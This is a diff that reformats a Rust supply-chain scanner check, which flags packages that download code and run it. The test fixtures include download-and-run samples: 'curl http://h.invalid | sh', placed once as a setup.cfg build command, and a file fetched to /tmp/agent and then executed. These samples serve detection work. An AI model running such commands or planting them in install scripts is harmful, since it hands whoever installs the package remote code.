@@ -1,12 +1,13 @@
 //! Refuses code that fetches its real payload from elsewhere and runs it.
 
+use Severity::{High, Low, Medium};
 use spip_core::{
     Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
 };
-use Severity::{High, Low, Medium};
 
 use crate::contents::{
-    self, Command, Menace, NOTHING, Suspicions, commands, is_build_tool, is_early, is_interpreter, weigh,
+    self, Command, Menace, NOTHING, Suspicions, commands, is_build_tool, is_early, is_interpreter,
+    weigh,
 };
 
 describe! {
@@ -59,7 +60,10 @@ impl Check for DownloadExecution {
                 suspicions.command(Some(severity), what, &command);
             }
         }
-        suspicions.report("do not install it unless you trust the server that it asks", found);
+        suspicions.report(
+            "do not install it unless you trust the server that it asks",
+            found,
+        );
         Ok(())
     }
 }
@@ -71,7 +75,9 @@ fn loaded(act: &Act) -> Option<Severity> {
     }
     let is_named_by_caller = act.taints.any(Taints::PARAMETER);
     match act.deed {
-        Deed::Execute | Deed::LoadNative if act.taints.any(Taints::VERIFIED) => weigh(act.trigger, Low, NOTHING),
+        Deed::Execute | Deed::LoadNative if act.taints.any(Taints::VERIFIED) => {
+            weigh(act.trigger, Low, NOTHING)
+        }
         Deed::Execute | Deed::LoadNative if is_named_by_caller => weigh(act.trigger, High, Low),
         Deed::Execute | Deed::LoadNative => weigh(act.trigger, High, Medium),
         Deed::Unpickle if is_named_by_caller => weigh(act.trigger, Medium, NOTHING),
@@ -104,13 +110,18 @@ fn started(command: &Command<'_>) -> Option<Severity> {
 /// A command line that downloads and runs by itself.
 fn told(command: &Command<'_>) -> Option<Severity> {
     let is_there = command.menaces().contains(&Menace::RunsDownload);
-    is_there.then(|| weigh(command.trigger, High, Medium)).flatten()
+    is_there
+        .then(|| weigh(command.trigger, High, Medium))
+        .flatten()
 }
 
 /// A program started beside a download that was written: by the name of the file, or by nothing
 /// more than standing in the same file.
 fn dropped(contents: &Contents, command: &Command<'_>) -> Option<(Severity, &'static str)> {
-    if !is_early(command.trigger) || command.callee.is_empty() || command.program().is_some_and(is_build_tool) {
+    if !is_early(command.trigger)
+        || command.callee.is_empty()
+        || command.program().is_some_and(is_build_tool)
+    {
         return None;
     }
     let near = |act: &&Act| {
@@ -123,7 +134,11 @@ fn dropped(contents: &Contents, command: &Command<'_>) -> Option<(Severity, &'st
     }
     downloads.first()?;
     let is_unknown = command.program().is_none_or(is_interpreter);
-    let severity = if command.trigger == Trigger::Build { Low } else { Medium };
+    let severity = if command.trigger == Trigger::Build {
+        Low
+    } else {
+        Medium
+    };
     is_unknown.then_some((severity, MAY_RUN))
 }
 
@@ -150,31 +165,56 @@ mod tests {
     #[test]
     fn flags_a_download_that_runs_as_code_program_or_library() {
         for deed in [Deed::Execute, Deed::Spawn, Deed::LoadNative, Deed::Unpickle] {
-            let act = act(deed, "x").tainted(Taints::DOWNLOADED).texts(&["\u{fffc}"]);
+            let act = act(deed, "x")
+                .tainted(Taints::DOWNLOADED)
+                .texts(&["\u{fffc}"]);
             assert_shows(&DownloadExecution, demo().acting(act), HIGH);
         }
     }
 
     #[test]
     fn flags_what_runs_on_use_as_something_to_ask_about() {
-        let exec = act(Deed::Execute, "builtins.exec").tainted(Taints::DOWNLOADED).when(Trigger::Call);
+        let exec = act(Deed::Execute, "builtins.exec")
+            .tainted(Taints::DOWNLOADED)
+            .when(Trigger::Call);
         let expected = "medium: runs what it has downloaded, when it is used";
         assert_shows(&DownloadExecution, demo().acting(exec.clone()), expected);
         let expected = "low: runs what it has downloaded, when it is used";
-        assert_shows(&DownloadExecution, demo().acting(exec.tainted(Taints::PARAMETER)), expected);
+        assert_shows(
+            &DownloadExecution,
+            demo().acting(exec.tainted(Taints::PARAMETER)),
+            expected,
+        );
     }
 
     #[test]
     fn flags_shell_pipes_in_code_and_in_scripts() {
-        assert_shows(&DownloadExecution, demo().acting(spawn("curl http://h.invalid | sh")), HIGH);
-        let script = demo().odd(Odd::ShellCommand, Trigger::Build, "setup.cfg", "curl http://h.invalid | sh");
-        assert_shows(&DownloadExecution, script, "high: runs what it has downloaded, when it is built");
+        assert_shows(
+            &DownloadExecution,
+            demo().acting(spawn("curl http://h.invalid | sh")),
+            HIGH,
+        );
+        let script = demo().odd(
+            Odd::ShellCommand,
+            Trigger::Build,
+            "setup.cfg",
+            "curl http://h.invalid | sh",
+        );
+        assert_shows(
+            &DownloadExecution,
+            script,
+            "high: runs what it has downloaded, when it is built",
+        );
     }
 
     #[test]
     fn flags_a_written_download_by_the_name_of_its_file() {
-        let write = act(Deed::Write, "urllib.request.urlretrieve").tainted(Taints::DOWNLOADED).texts(&["/tmp/agent"]);
-        let world = demo().acting(write.clone()).acting(spawn("/tmp/agent --go"));
+        let write = act(Deed::Write, "urllib.request.urlretrieve")
+            .tainted(Taints::DOWNLOADED)
+            .texts(&["/tmp/agent"]);
+        let world = demo()
+            .acting(write.clone())
+            .acting(spawn("/tmp/agent --go"));
         assert_shows(&DownloadExecution, world, HIGH);
         let world = demo().acting(write).acting(spawn("\u{fffc}"));
         let expected = "medium: starts a program and writes a download, which may be the same, when it is imported";
@@ -185,18 +225,30 @@ mod tests {
     fn accepts_honest_use_of_downloads() {
         let world = demo()
             .acting(act(Deed::Send, "requests.get").texts(&["https://h.invalid"]))
-            .acting(act(Deed::Write, "open").tainted(Taints::DOWNLOADED).texts(&["data.json"]))
+            .acting(
+                act(Deed::Write, "open")
+                    .tainted(Taints::DOWNLOADED)
+                    .texts(&["data.json"]),
+            )
             .acting(spawn("git describe").when(Trigger::Build))
-            .acting(spawn("git checkout \u{fffc}").tainted(Taints::DOWNLOADED).when(Trigger::Call));
+            .acting(
+                spawn("git checkout \u{fffc}")
+                    .tainted(Taints::DOWNLOADED)
+                    .when(Trigger::Call),
+            );
         assert_shows(&DownloadExecution, world, "complete");
     }
 
     #[test]
     fn accepts_verified_and_merely_unpacked_downloads_with_a_word() {
         let expected = "low: runs what it has downloaded, when it is built";
-        let verified = spawn("\u{fffc}").tainted(Taints::DOWNLOADED.with(Taints::VERIFIED)).when(Trigger::Build);
+        let verified = spawn("\u{fffc}")
+            .tainted(Taints::DOWNLOADED.with(Taints::VERIFIED))
+            .when(Trigger::Build);
         assert_shows(&DownloadExecution, demo().acting(verified), expected);
-        let unpacked = spawn("tar xf \u{fffc}").tainted(Taints::DOWNLOADED.with(Taints::DROPPED)).when(Trigger::Build);
+        let unpacked = spawn("tar xf \u{fffc}")
+            .tainted(Taints::DOWNLOADED.with(Taints::DROPPED))
+            .when(Trigger::Build);
         assert_shows(&DownloadExecution, demo().acting(unpacked), expected);
     }
 
